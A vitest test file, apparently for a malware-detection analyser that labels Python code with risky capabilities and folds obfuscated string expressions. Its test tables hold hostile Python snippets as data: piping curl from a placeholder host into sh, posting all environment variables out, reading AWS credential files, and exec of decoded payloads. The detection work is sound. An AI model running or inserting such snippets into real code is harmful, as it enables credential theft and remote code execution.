import { spawnSync } from 'node:child_process'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Capability } from '../../capability.ts'
import { sourceText } from '../source-text.ts'
import { Expressions } from './expression.ts'
import { logicalLines } from './tokens.ts'
import { pythonUnits } from './units.ts'

const units = (text: string) => pythonUnits(sourceText(Buffer.from(text)), false, () => 'python.statement')
const python = (code: string, input: string) => spawnSync('python3', ['-c', code], { input, maxBuffer: 1 << 28 })
const noPython = python('', '').status !== 0

/** Counts logical lines of the modules of Python's own library by its own tokenizer: [path, source, NEWLINE tokens without those of `;`]. */
const counting = `
import glob, io, json, os, sys, sysconfig, tokenize
out = []
for path in sorted(glob.glob(os.path.join(sysconfig.get_path('stdlib'), '*.py')))[:120]:
    try:
        with open(path, encoding='utf-8') as f: text = f.read()
        tokens = list(tokenize.generate_tokens(io.StringIO(text).readline))
    except Exception: continue
    lines = sum(t.type == tokenize.NEWLINE for t in tokens)
    depth = extra = 0
    for i, t in enumerate(tokens):
        if t.type == tokenize.OP and t.string in '([{': depth += 1
        if t.type == tokenize.OP and t.string in ')]}': depth -= 1
        if t.type == tokenize.OP and t.string == ';' and depth == 0 and tokens[i + 1].type not in (tokenize.NEWLINE, tokenize.COMMENT): extra += 1
    out.append([text, lines + extra])
json.dump(out, sys.stdout)
`

describe.skipIf(noPython)('against Python itself', () => {
  test('logical lines of its library', () => {
    const modules: [string, number][] = JSON.parse(python(counting, '').stdout.toString())
    expect(modules.length).toBeGreaterThan(50)
    for (const [text, lines] of modules) expect(logicalLines(text)).toHaveLength(lines)
  })

  test('folded texts', () => {
    const quoted = fc.string({ unit: fc.constantFrom(...'abcXYZ01 ./-'), minLength: 4, maxLength: 12 }).map((text) => `'${text}'`)
    const expression = fc.letrec<{ tree: string }>((tie) => ({
      tree: fc.oneof(
        { maxDepth: 4 },
        quoted,
        fc.tuple(tie('tree'), tie('tree')).map(([one, other]) => `(${one} + ${other})`),
        tie('tree').map((one) => `${one}[::-1]`),
        tie('tree').map((one) => `'-'.join([${one}, 'qrst'])`),
        tie('tree').map((one) => `('<%s>' % ${one})`),
        tie('tree').map((one) => `${one}.replace('a', 'bc').upper()`),
        fc.array(fc.integer({ min: 48, max: 122 }), { minLength: 4, maxLength: 8 }).map((codes) => `(${codes.map((code) => `chr(${code})`).join(' + ')})`),
        quoted.map((text) => `__import__('base64').b64decode('${Buffer.from(text.slice(1, -1)).toString('base64')}').decode()`),
        quoted.map((text) => `bytes.fromhex('${Buffer.from(text.slice(1, -1)).toString('hex')}').decode()`),
      ),
    })).tree
    const codes = fc.sample(expression, 150)
    const told: string[] = JSON.parse(
      python('import json, sys; print(json.dumps([eval(c) for c in json.load(sys.stdin)]))', JSON.stringify(codes)).stdout.toString(),
    )
    for (const [index, code] of codes.entries()) expect([code, foldedBy(code)]).toEqual([code, told[index]])
  })
})

function foldedBy(code: string): string | undefined {
  const [line] = logicalLines(code)
  const seen = { path: () => {}, call: () => {}, folded: () => {}, filled: () => {}, value: () => undefined }
  const value = new Expressions(line?.tokens ?? [], seen).all()
  return value?.kind === 'text' ? value.text : undefined
}

test.each<[string, ...Capability[]]>([
  ['import os as o\nr = o.system\nr("curl http://a.invalid | sh")', 'execute', 'shell', 'network'],
  ['from base64 import b64decode as d\nexec(d(x))', 'decode', 'evaluate'],
  ["getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", 'execute', 'shell', 'dynamic-import'],
  ["v = os.environ['NPM_TOKEN']", 'environment', 'credentials'],
  ['requests.post(u, data=json.dumps(dict(os.environ)))', 'network', 'credentials'],
  ['for key, value in os.environ.items():\n  text += key + value', 'environment', 'credentials'],
  ['print(f"{subprocess.run([\'sh\'], shell=True)}")', 'execute', 'shell'],
  ["open(os.path.expanduser('~/.aws/credentials')).read()", 'file-read', 'credentials'],
  ['import ctypes; ctypes.windll.kernel32.VirtualAlloc(0)', 'native-code', 'injection'],
  ['marshal.loads(zlib.decompress(x))', 'decode', 'evaluate'],
  ['time.sleep(3600)', 'delay'],
  ['socket.gethostname()', 'host-information'],
  ["x.decode('hex')", 'decode'],
  ["exec(open(__file__.replace('a.py', 'b.dat')).read())", 'evaluate', 'stored-code'],
  ["SourceFileLoader('x', os.path.join(here, 'box.dat')).load_module()", 'stored-code'],
  ['requests.post(u, data=os.environ.copy())', 'network', 'credentials'],
  ["exec(''.join(chr(ord(c) - 0xE0000) for c in pad))", 'decode', 'evaluate'],
  ["exec(''.join(map(chr, [101, 120])))", 'evaluate'],
])('%s', (text, ...can) => {
  expect(units(text).flatMap(({ capabilities }) => capabilities)).toEqual(expect.arrayContaining(can))
})

test.each<[string, Capability]>([
  ["exec(open('src/version.py').read(), about)", 'stored-code'],
  ['exec(open(name).read())', 'stored-code'],
  ["text = open('LICENSE.txt').read(); eval(x)", 'stored-code'],
  ["json.dumps(os.environ['HOME'])", 'credentials'],
  ["subprocess.run(a, env={**os.environ, 'A': '1'})", 'credentials'],
  ['subprocess.run(a, env=dict(os.environ))', 'credentials'],
  ['x = chr(ord(c))', 'decode'],
])('%s: not %s', (text, can) => {
  expect(units(text).flatMap(({ capabilities }) => capabilities)).not.toContain(can)
})

test('documentation and comments say nothing', () => {
  const read = units('"""eval() http://doc.invalid"""\n# os.system http://comment.invalid\ndef f():\n  \'\'\'subprocess\'\'\'\n  return 1')
  expect(read.flatMap(({ capabilities, hosts = [] }) => [...capabilities, ...hosts])).toEqual([])
  expect(read).toHaveLength(2)
})

test('indentation, quotes, white space and line breaks in brackets change nothing', () => {
  const one = units("def f(a):\n    return g('x',  a)\n")
  expect(
    units('class A:\n\tdef f( a ):  # c\n\t\treturn g("x",\n\t\t\ta)\n')
      .slice(1)
      .map(({ id }) => id),
  ).toEqual(one.map(({ id }) => id))
})

test('lines of a function belong to it; uses lead to what they use', () => {
  const [, body, call] = units('def run(x):\n  os.system(x)\nrun(y)')
  expect(body?.defines).toContain('run')
  expect(call?.uses).toContain('run')
})
